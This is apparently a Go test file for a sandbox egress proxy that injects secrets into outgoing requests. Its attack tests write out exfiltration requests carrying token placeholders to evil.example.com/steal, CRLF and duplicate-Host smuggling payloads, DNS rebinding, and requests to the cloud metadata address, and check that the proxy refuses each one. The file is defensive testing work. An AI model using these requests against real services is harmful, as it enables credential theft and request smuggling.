package egress

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/paddock-dev/paddock/api"
)

// recorder is an upstream that keeps every request it got (headers, URL,
// body) and echoes the Authorization header back in a header and the
// whole request in its body (with ?gzip=1, compressed whatever was asked).
type recorder struct {
	mu   sync.Mutex
	reqs []recorded
}

type recorded struct {
	Host   string
	URL    string
	Header http.Header
	Body   string
}

func (rec *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	x := recorded{Host: r.Host, URL: r.URL.String(), Header: r.Header.Clone(), Body: string(body)}
	rec.mu.Lock()
	rec.reqs = append(rec.reqs, x)
	rec.mu.Unlock()
	w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
	b, _ := json.Marshal(x)
	if r.URL.Query().Get("gzip") == "1" {
		w.Header().Set("Content-Encoding", "gzip")
		zw := gzip.NewWriter(w)
		zw.Write(b)
		zw.Close()
		return
	}
	if r.URL.Query().Get("br") == "1" {
		w.Header().Set("Content-Encoding", "br")
	}
	w.Write(b)
}

func (rec *recorder) all() []recorded {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return append([]recorded(nil), rec.reqs...)
}

func (rec *recorder) last(t *testing.T) recorded {
	t.Helper()
	all := rec.all()
	if len(all) == 0 {
		t.Fatal("the upstream got no request")
	}
	return all[len(all)-1]
}

func (rec *recorder) anyContains(s string) bool {
	for _, r := range rec.all() {
		if strings.Contains(fmt.Sprint(r), s) {
			return true
		}
	}
	return false
}

// rawTLS sends raw request bytes over a TLS connection from sandbox sb1
// with server name sni, and returns every byte of the answer.
func rawTLS(t *testing.T, h *harness, sni string, dst netip.AddrPort, req string) string {
	t.Helper()
	tc := sendTLS(t, h, sni, dst, req)
	defer tc.Close()
	resp, err := http.ReadResponse(bufio.NewReader(io.TeeReader(tc, &bytes.Buffer{})), nil)
	if err != nil {
		t.Fatalf("reading the answer: %v", err)
	}
	var raw bytes.Buffer
	resp.Write(&raw) // status line, every header, the body as sent
	return raw.String()
}

// sendTLS opens a TLS connection from sb1 through the proxy to dst and
// writes req on it.
func sendTLS(t *testing.T, h *harness, sni string, dst netip.AddrPort, req string) *tls.Conn {
	t.Helper()
	conn, err := h.dial(context.Background(), sb1Addr, dst)
	if err != nil {
		t.Fatal(err)
	}
	tc := tls.Client(conn, &tls.Config{ServerName: sni, RootCAs: h.trust("sb1"), NextProtos: []string{"http/1.1"}})
	tc.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.WriteString(tc, req); err != nil {
		tc.Close()
		t.Fatal(err)
	}
	return tc
}

const secretValue = "ghp_REALsecretVALUE_0123456789"

type secretsSetup struct {
	h        *harness
	rec      *recorder
	dst      netip.AddrPort
	port     string
	httpDst  netip.AddrPort
	httpPort string
	ph       string // GITHUB_TOKEN's placeholder in sb1
	phBasic  string
}

func setupSecrets(t *testing.T) *secretsSetup {
	h := newHarness(t)
	rec := &recorder{}
	srv := startTLS(t, nil, rec, "api.example.com", "basic.example.com", "evil.example.com", "front.example.com", "rebind.example.com")
	httpSrv := startHTTP(t, rec)
	s := &secretsSetup{h: h, rec: rec, dst: serverAddr(t, srv), httpDst: serverAddr(t, httpSrv)}
	s.port, s.httpPort = itoa(s.dst.Port()), itoa(s.httpDst.Port())
	if err := h.store.Create("GITHUB_TOKEN", []byte(secretValue)); err != nil {
		t.Fatal(err)
	}
	if err := h.store.Create("BASIC", []byte("basic-password-value-42")); err != nil {
		t.Fatal(err)
	}
	h.setPolicy("sb1", &api.Policy{
		Allow: mustRules(t,
			"api.example.com", "basic.example.com",
			"https://evil.example.com:"+s.port+"/", // intercepted, so its requests are readable
			"http://api.example.com:"+s.httpPort+"/", "http://evil.example.com:"+s.httpPort+"/"),
		Secrets: []api.SecretBinding{
			{Name: "GITHUB_TOKEN", Hosts: []string{"api.example.com:" + s.port}, Paths: []string{"/v1/"}, Methods: []string{"GET", "POST"},
				Inject: api.SecretInjection{Header: "Authorization", Format: "Bearer %s"}},
			{Name: "BASIC", Hosts: []string{"https://basic.example.com:" + s.port}, Inject: api.SecretInjection{Basic: &api.BasicAuth{User: "bot"}}},
		},
	})
	s.ph = h.store.Placeholder("sb1", "GITHUB_TOKEN")
	s.phBasic = h.store.Placeholder("sb1", "BASIC")
	return s
}

func (s *secretsSetup) do(t *testing.T, method, url string, hdr map[string]string, body string) (int, string, http.Header) {
	t.Helper()
	dst := s.dst
	if strings.HasPrefix(url, "http:") {
		dst = s.httpDst
	}
	req, _ := http.NewRequest(method, url, strings.NewReader(body))
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	resp, err := s.h.client("sb1", sb1Addr, dst).Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, url, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

func TestSecretInjection(t *testing.T) {
	s := setupSecrets(t)
	apiURL := "https://api.example.com:" + s.port
	for _, tc := range []struct {
		name     string
		method   string
		url      string
		hdr      map[string]string
		wantAuth string
		check    func(t *testing.T, r recorded)
	}{
		{name: "injected when absent", method: "GET", url: apiURL + "/v1/user", wantAuth: "Bearer " + secretValue},
		{name: "placeholder replaced", method: "GET", url: apiURL + "/v1/user", hdr: map[string]string{"Authorization": "Bearer " + s.ph}, wantAuth: "Bearer " + secretValue},
		{name: "client's own credentials left alone", method: "GET", url: apiURL + "/v1/user", hdr: map[string]string{"Authorization": "token mine"}, wantAuth: "token mine"},
		{name: "placeholder in another header", method: "POST", url: apiURL + "/v1/user", hdr: map[string]string{"Authorization": "token mine", "X-Token": "t=" + s.ph},
			wantAuth: "token mine", check: func(t *testing.T, r recorded) {
				if r.Header.Get("X-Token") != "t="+secretValue {
					t.Errorf("X-Token = %q", r.Header.Get("X-Token"))
				}
			}},
		{name: "placeholder in query", method: "GET", url: apiURL + "/v1/q?token=" + s.ph, wantAuth: "Bearer " + secretValue, check: func(t *testing.T, r recorded) {
			if !strings.Contains(r.URL, "token="+secretValue) {
				t.Errorf("URL = %q", r.URL)
			}
		}},
		{name: "basic", method: "GET", url: "https://basic.example.com:" + s.port + "/x",
			wantAuth: "Basic " + base64.StdEncoding.EncodeToString([]byte("bot:basic-password-value-42"))},
		{name: "basic with placeholder password", method: "GET", url: "https://basic.example.com:" + s.port + "/x",
			hdr:      map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte("bot:"+s.phBasic))},
			wantAuth: "Basic " + base64.StdEncoding.EncodeToString([]byte("bot:basic-password-value-42"))},
		{name: "out of method scope: nothing injected", method: "DELETE", url: apiURL + "/v1/user", wantAuth: ""},
		{name: "out of path scope: nothing injected", method: "GET", url: apiURL + "/v2/user", wantAuth: ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, body, hdr := s.do(t, tc.method, tc.url, tc.hdr, "")
			if code != 200 {
				t.Fatalf("%d %s", code, body)
			}
			r := s.rec.last(t)
			if got := r.Header.Get("Authorization"); got != tc.wantAuth {
				t.Fatalf("upstream got Authorization %q, want %q", got, tc.wantAuth)
			}
			if tc.check != nil {
				tc.check(t, r)
			}
			// Whatever the upstream echoed, the sandbox never sees a value.
			if strings.Contains(body, secretValue) || strings.Contains(fmt.Sprint(hdr), secretValue) ||
				strings.Contains(body, "basic-password-value-42") || strings.Contains(fmt.Sprint(hdr), base64.StdEncoding.EncodeToString([]byte("bot:basic-password-value-42"))) {
				t.Fatalf("a secret reached the sandbox: %v %s", hdr, body)
			}
		})
	}
	ev := s.h.waitEvent("sb1", func(e Event) bool { return len(e.Secrets) > 0 })
	if ev.Secrets[0] != "GITHUB_TOKEN" || ev.Action != "allow" {
		t.Fatalf("event %+v", ev)
	}
}

func TestAttacks(t *testing.T) {
	s := setupSecrets(t)
	h := s.h
	apiURL := "https://api.example.com:" + s.port
	evil := "https://evil.example.com:" + s.port
	exfil := func(t *testing.T, code int, body string) {
		t.Helper()
		if code != 403 || !strings.Contains(body, "placeholder") {
			t.Fatalf("not refused as exfiltration: %d %s", code, body)
		}
		h.waitEvent("sb1", func(e Event) bool { return e.Exfiltration && e.Action == "deny" && e.Status == 403 })
	}
	neverSent := func(t *testing.T) {
		t.Helper()
		if s.rec.anyContains(s.ph) || s.rec.anyContains(secretValue) && !strings.Contains(t.Name(), "echo") {
			for _, r := range s.rec.all() {
				if strings.Contains(fmt.Sprint(r), s.ph) || r.Host != "api.example.com:"+s.port && strings.Contains(fmt.Sprint(r), secretValue) {
					t.Fatalf("the upstream got a placeholder or a secret it should not have: %+v", r)
				}
			}
		}
	}

	t.Run("domain fronting", func(t *testing.T) {
		h.setPolicy("sb2", &api.Policy{Allow: mustRules(t, "https://front.example.com:"+s.port+"/")})
		req, _ := http.NewRequest("GET", "https://front.example.com:"+s.port+"/x", nil)
		req.Host = "secret.example.com"
		before := len(s.rec.all())
		resp, err := h.client("sb2", sb2Addr, s.dst).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 403 || !strings.Contains(string(b), "domain fronting") || len(s.rec.all()) != before {
			t.Fatalf("%d %s", resp.StatusCode, b)
		}
		h.waitEvent("sb2", func(e Event) bool { return strings.Contains(e.Reason, "domain fronting") && e.Action == "deny" })
	})

	t.Run("direct IP connect to a denied address", func(t *testing.T) {
		// TLS with no SNI to the address of an allowed name: decided by address: denied.
		conn, err := h.dial(context.Background(), sb1Addr, s.dst)
		if err != nil {
			t.Fatal(err)
		}
		tc := tls.Client(conn, &tls.Config{InsecureSkipVerify: true})
		tc.SetDeadline(time.Now().Add(3 * time.Second))
		if err := tc.Handshake(); err == nil || !strings.Contains(err.Error(), "access denied") {
			t.Fatalf("handshake: %v", err)
		}
		// Raw TCP to it, and to the host's loopback and metadata address.
		for _, dst := range []netip.AddrPort{s.dst, netip.MustParseAddrPort("127.0.0.1:22"), netip.MustParseAddrPort("169.254.169.254:80"), netip.MustParseAddrPort("[::1]:80")} {
			conn, err := h.dial(context.Background(), sb1Addr, dst)
			if err == nil {
				expectRefused(t, conn, "hello\r\n")
			} else if !errors.Is(err, syscall.ECONNRESET) {
				t.Fatal(err)
			}
			h.waitEvent("sb1", func(e Event) bool { return e.Kind == KindTCP && e.IP == dst.Addr().String() && e.Action == "deny" })
		}
	})

	t.Run("internet preset and private addresses", func(t *testing.T) {
		h.setPolicy("sb2", &api.Policy{Presets: []string{"internet"}})
		for _, dst := range []string{"10.1.2.3:80", "127.0.0.1:80", "169.254.169.254:80", "100.64.0.1:80", "[::1]:80", "[fc00::1]:80", "[fe80::1]:80"} {
			conn, err := h.dial(context.Background(), sb2Addr, netip.MustParseAddrPort(dst))
			if err == nil {
				expectRefused(t, conn, "")
			} else if !errors.Is(err, syscall.ECONNRESET) {
				t.Fatal(err)
			}
			h.waitEvent("sb2", func(e Event) bool {
				return e.Kind == KindTCP && e.Action == "deny" && e.Port == 80 && e.IP == netip.MustParseAddrPort(dst).Addr().String()
			})
		}
		ev := h.waitEvent("sb2", func(e Event) bool { return e.IP == "169.254.169.254" })
		if !strings.Contains(ev.Reason, "metadata") || ev.Action != "deny" {
			t.Fatalf("event %+v", ev)
		}
		// Plain HTTP to a public address naming the metadata address in Host.
		code, body, _ := func() (int, string, http.Header) {
			req, _ := http.NewRequest("GET", "http://169.254.169.254/latest/meta-data/", nil)
			resp, err := h.client("sb2", sb2Addr, s.httpDst).Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			b, _ := io.ReadAll(resp.Body)
			return resp.StatusCode, string(b), resp.Header
		}()
		if code != 403 || !strings.Contains(body, "metadata") {
			t.Fatalf("%d %s", code, body)
		}
	})

	t.Run("DNS rebinding", func(t *testing.T) {
		for _, target := range []string{"127.0.0.1", "169.254.169.254", "10.0.0.1", "::1"} {
			h.resolveTo("rebind.example.com", target)
			h.setPolicy("sb2", &api.Policy{Allow: mustRules(t, "rebind.example.com")})
			// Spliced TLS: refused with an alert.
			_, err := h.client("sb2", sb2Addr, s.dst).Get("https://rebind.example.com:" + s.port + "/")
			if err == nil || !strings.Contains(err.Error(), "access denied") {
				t.Fatalf("%s: TLS: %v", target, err)
			}
			ev := h.waitEvent("sb2", func(e Event) bool {
				return e.Kind == KindTLS && strings.Contains(e.Reason, "rebinding") && strings.Contains(e.Reason, "to "+target+",")
			})
			if ev.Action != "deny" || ev.Host != "rebind.example.com" {
				t.Fatalf("event %+v", ev)
			}
			// Plain HTTP: a 403 that says why.
			resp, err := h.client("sb2", sb2Addr, s.httpDst).Get("http://rebind.example.com:" + s.httpPort + "/")
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 403 || !strings.Contains(string(b), "rebinding") {
				t.Fatalf("%s: HTTP: %d %s", target, resp.StatusCode, b)
			}
		}
		// Unless a rule names the address.
		h.resolveTo("rebind.example.com", "127.0.0.1")
		h.setPolicy("sb2", &api.Policy{Allow: mustRules(t, "rebind.example.com", "127.0.0.1:"+s.httpPort)})
		h.resolveTo("rebind.example.com", publicAddr.String())
	})

	t.Run("placeholder to a wrong host", func(t *testing.T) {
		code, body, _ := s.do(t, "GET", evil+"/steal", map[string]string{"Authorization": "Bearer " + s.ph}, "")
		exfil(t, code, body)
		code, body, _ = s.do(t, "GET", evil+"/steal?t="+s.ph, nil, "")
		exfil(t, code, body)
		code, body, _ = s.do(t, "GET", evil+"/steal/"+s.ph, nil, "")
		exfil(t, code, body)
		code, body, _ = s.do(t, "GET", evil+"/steal?t=%70addock-secret-"+s.ph[len(PlaceholderPrefix):], nil, "")
		exfil(t, code, body)
		code, body, _ = s.do(t, "GET", evil+"/", map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+s.ph))}, "")
		exfil(t, code, body)
		// Over plain HTTP, even to the bound host: secrets go over HTTPS only.
		code, body, _ = s.do(t, "GET", "http://api.example.com:"+s.httpPort+"/v1/", map[string]string{"Authorization": "Bearer " + s.ph}, "")
		exfil(t, code, body)
		// In a large body, far from the start: the upstream never gets it.
		big := strings.Repeat("a", 300<<10) + s.ph + strings.Repeat("b", 1000)
		code, body, _ = s.do(t, "POST", evil+"/upload", nil, big)
		exfil(t, code, body)
		neverSent(t)
	})

	t.Run("placeholder to a wrong path or method", func(t *testing.T) {
		code, body, _ := s.do(t, "GET", apiURL+"/admin/", map[string]string{"Authorization": "Bearer " + s.ph}, "")
		exfil(t, code, body)
		code, body, _ = s.do(t, "DELETE", apiURL+"/v1/repo", map[string]string{"Authorization": "Bearer " + s.ph}, "")
		exfil(t, code, body)
		code, body, _ = s.do(t, "GET", apiURL+"/v1/../admin/", map[string]string{"Authorization": "Bearer " + s.ph}, "")
		if code != 403 {
			t.Fatalf("dot segments: %d %s", code, body)
		}
		neverSent(t)
	})

	t.Run("CRLF and header smuggling", func(t *testing.T) {
		before := len(s.rec.all())
		for _, req := range []string{
			"GET /v1/x HTTP/1.1\r\nHost: api.example.com\r\nX-A: a\rInjected: 1\r\n\r\n",
			"GET /v1/x HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.com\r\n\r\n",
			"GET /v1/x HTTP/1.1\r\nHost: api.example.com\r\nX-A: " + s.ph + "\x00\r\n\r\n",
			"GET /v1/x HTTP/1.1\r\nHost: api.example.com\r\nHost: api.example.com\r\n\r\n",
			"GET /v1/x HTTP/1.1\r\nHost: api.example.com\r\nX A: 1\r\n\r\n",
		} {
			raw := rawTLS(t, h, "api.example.com", s.dst, req)
			if !strings.HasPrefix(raw, "HTTP/1.1 400") {
				t.Errorf("%q answered %q", req, raw)
			}
		}
		// An absolute URI naming another host cannot carry the injection there.
		raw := rawTLS(t, h, "api.example.com", s.dst, "GET https://evil.example.com/v1/x HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
		if !strings.HasPrefix(raw, "HTTP/1.1 403") || !strings.Contains(raw, "differs from the TLS server name") {
			t.Errorf("absolute URI to another host: %q", raw)
		}
		// Only /v1/x counts: the refused upload of an earlier subtest is
		// recorded when the upstream's read of its cut body ends, which
		// may be now.
		for _, r := range s.rec.all()[before:] {
			if strings.Contains(r.URL, "/v1/x") {
				t.Fatalf("a smuggled request reached the upstream: %+v", r)
			}
		}
		// An obsolete folded line stays one header: nothing new is injected.
		rawTLS(t, h, "api.example.com", s.dst, "GET /v1/x HTTP/1.1\r\nHost: api.example.com\r\nX-A: a\r\n Injected: 1\r\n\r\n")
		if r := s.rec.last(t); r.Header.Get("Injected") != "" {
			t.Fatalf("folded header split upstream: %+v", r.Header)
		}
		// A placeholder with CRLF around it in the query stays in the query.
		code, _, _ := s.do(t, "GET", apiURL+"/v1/x?q="+s.ph+"%0d%0aX-Injected:%201", nil, "")
		r := s.rec.last(t)
		if code != 200 || r.Header.Get("X-Injected") != "" || !strings.Contains(r.URL, "%0D%0AX-Injected") && !strings.Contains(r.URL, "%0d%0aX-Injected") {
			t.Fatalf("%d %+v", code, r)
		}
	})

	t.Run("upstream echoes the secret", func(t *testing.T) {
		for _, q := range []string{"", "?gzip=1"} {
			raw := rawTLS(t, h, "api.example.com", s.dst, "GET /v1/echo"+q+" HTTP/1.1\r\nHost: api.example.com\r\nAccept-Encoding: gzip\r\nRange: bytes=0-5\r\nConnection: close\r\n\r\n")
			if !strings.HasPrefix(raw, "HTTP/1.1 200") {
				t.Fatalf("%q", raw)
			}
			if strings.Contains(raw, secretValue) || strings.Contains(raw, secretValue[4:20]) {
				t.Fatalf("the secret reached the sandbox:\n%s", raw)
			}
			if !strings.Contains(raw, "X-Echo-Auth: Bearer "+s.ph) || !strings.Contains(raw, s.ph) {
				t.Fatalf("no placeholder where the value was:\n%s", raw)
			}
			if r := s.rec.last(t); r.Header.Get("Authorization") != "Bearer "+secretValue || r.Header.Get("Range") != "" {
				t.Fatalf("upstream got %+v", r.Header)
			}
		}
		// An encoding the proxy cannot read is refused rather than passed.
		raw := rawTLS(t, h, "api.example.com", s.dst, "GET /v1/echo?br=1 HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n")
		if !strings.HasPrefix(raw, "HTTP/1.1 502") || strings.Contains(raw, secretValue) {
			t.Fatalf("%q", raw)
		}
	})
}
